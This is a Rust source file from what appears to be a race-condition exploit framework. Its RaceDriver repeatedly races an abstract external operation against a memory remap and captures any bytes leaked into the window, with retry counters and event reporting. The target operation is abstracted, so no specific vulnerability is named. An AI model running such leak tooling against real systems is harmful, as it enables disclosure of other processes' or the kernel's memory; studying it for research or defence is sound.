//! The driving side of the race.
//!
//! [`RaceDriver`] runs on the caller's thread. One attempt ([`RaceDriver::try_once`]) waits for
//! the racer to announce an unmapped window, asks it to remap, and invokes the external
//! operation immediately, so the operation's access lands while the mapping is being created.
//! The outcome is judged only by its side effect:
//!
//! - the operation failed: the window was still unmapped ([`Outcome::NoMapping`])
//! - it succeeded but the window starts with empty bytes: the mapping landed too early and the
//!   copy brought nothing ([`Outcome::MappedButEmpty`])
//! - otherwise data was captured ([`Outcome::Captured`])

use crate::config::EvidencePolicy;
use crate::consumer::{Capture, LeakConsumer, Verdict};
use crate::event::{EventSink, RaceEvent};
use crate::handshake::Handshake;
use crate::operation::ExternalOperation;
use crate::racer::RaceSynchronizer;
use crate::retry::{RetryCounters, RetryPolicy};
use crate::session::LeakError;
use crate::window::MappingBackend;
use log::trace;
use serde::Serialize;
use thiserror::Error;

/// Classification of one attempt, without data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum OutcomeKind {
    /// The operation ran before the window was mapped.
    NoMapping,
    /// The operation succeeded, but the window holds no evidence.
    MappedButEmpty,
    /// The operation succeeded and the window holds data.
    Captured,
}

/// Result of one attempt.
#[derive(Debug)]
pub enum Outcome {
    /// The operation ran before the window was mapped.
    NoMapping,
    /// The operation succeeded, but the window holds no evidence.
    MappedButEmpty,
    /// The operation succeeded and the window holds data.
    Captured(Capture),
}

impl Outcome {
    /// The classification of this outcome.
    pub fn kind(&self) -> OutcomeKind {
        match self {
            Outcome::NoMapping => OutcomeKind::NoMapping,
            Outcome::MappedButEmpty => OutcomeKind::MappedButEmpty,
            Outcome::Captured(_) => OutcomeKind::Captured,
        }
    }
}

/// The racer stopped after failing to remap the window; no further attempt is possible.
#[derive(Debug, Error)]
#[error("Racer failed to remap the window")]
pub struct RacerFailed;

/// Drives attempts against a running racer.
pub struct RaceDriver<'a, O: ExternalOperation + ?Sized> {
    handshake: &'a Handshake,
    operation: &'a mut O,
    address: usize,
    size: usize,
    evidence: EvidencePolicy,
    counters: RetryCounters,
}

impl<'a, O: ExternalOperation + ?Sized> RaceDriver<'a, O> {
    /// Creates a driver for the window owned by `racer`.
    ///
    /// # Arguments
    ///
    /// * `racer` - The running racer
    /// * `operation` - Operation to race
    /// * `evidence` - Capture classification
    pub fn new<B: MappingBackend + Send + 'static>(
        racer: &'a RaceSynchronizer<B>,
        operation: &'a mut O,
        evidence: EvidencePolicy,
    ) -> Self {
        RaceDriver {
            handshake: racer.handshake(),
            operation,
            address: racer.address(),
            size: racer.size(),
            evidence,
            counters: RetryCounters::default(),
        }
    }

    /// Counters of the attempts run so far.
    pub fn counters(&self) -> &RetryCounters {
        &self.counters
    }

    /// Runs a single attempt.
    ///
    /// Leaves the racer waiting in the mapped state; call [`restart`](Self::restart) before the
    /// next attempt. The attempt is not recorded in [`counters`](Self::counters); [`run`]
    /// does that.
    ///
    /// # Errors
    ///
    /// Returns [`RacerFailed`] if the racer failed to remap the window, in this or an earlier
    /// cycle.
    ///
    /// [`run`]: Self::run
    pub fn try_once(&mut self) -> Result<Outcome, RacerFailed> {
        if !self.handshake.await_unmapped() {
            return Err(RacerFailed);
        }
        self.handshake.request_map();
        let reported = match self.operation.invoke(self.address, self.size) {
            Ok(reported) => reported,
            Err(e) => {
                trace!("Operation failed: {}", e);
                return Ok(Outcome::NoMapping);
            }
        };
        // an operation may report success without touching the window
        if !self.handshake.await_mapped() {
            return Err(RacerFailed);
        }
        // SAFETY: the backend mapped `size` readable bytes at `address`, and the racer keeps
        // them mapped until the next restart request.
        let window = unsafe { std::slice::from_raw_parts(self.address as *const u8, self.size) };
        if !self.evidence.is_evidence(window) {
            return Ok(Outcome::MappedButEmpty);
        }
        Ok(Outcome::Captured(Capture::new(
            window.to_vec(),
            reported.min(self.size),
            self.counters.total_attempts + 1,
        )))
    }

    /// Sends the racer back to unmap the window for the next attempt.
    pub fn restart(&self) {
        self.handshake.request_restart();
    }

    /// Runs attempts until the consumer accepts a capture or the policy gives up.
    ///
    /// Every capture is handed to `consumer`. Each attempt is recorded in the counters and
    /// reported to `sink`.
    ///
    /// # Returns
    ///
    /// The accepted capture.
    ///
    /// # Errors
    ///
    /// * [`LeakError::AllocationFailed`] if the racer failed to remap the window
    /// * [`LeakError::NeverWon`] or [`LeakError::ExhaustedAfterCapture`] when `policy` gives up
    pub fn run<C: LeakConsumer + ?Sized>(
        &mut self,
        consumer: &mut C,
        policy: &RetryPolicy,
        sink: &dyn EventSink,
    ) -> Result<Capture, LeakError> {
        loop {
            let outcome = self.try_once().map_err(|_| LeakError::AllocationFailed)?;
            let attempt = self.counters.total_attempts + 1;
            sink.emit(&RaceEvent::AttemptFinished {
                attempt,
                outcome: outcome.kind(),
            });
            match outcome {
                Outcome::NoMapping => self.counters.record_lost(),
                Outcome::MappedButEmpty => self.counters.record_empty(),
                Outcome::Captured(capture) => {
                    let tries = self.counters.record_capture();
                    sink.emit(&RaceEvent::Captured { attempt, tries });
                    match consumer.on_capture(&capture) {
                        Verdict::Done => {
                            sink.emit(&RaceEvent::CaptureAccepted { attempt });
                            return Ok(capture);
                        }
                        Verdict::Retry => {
                            self.counters.record_rejection();
                            sink.emit(&RaceEvent::CaptureRejected { attempt });
                        }
                    }
                }
            }
            if let Some(give_up) = policy.check(&self.counters) {
                return Err(give_up.into());
            }
            self.restart();
        }
    }
}
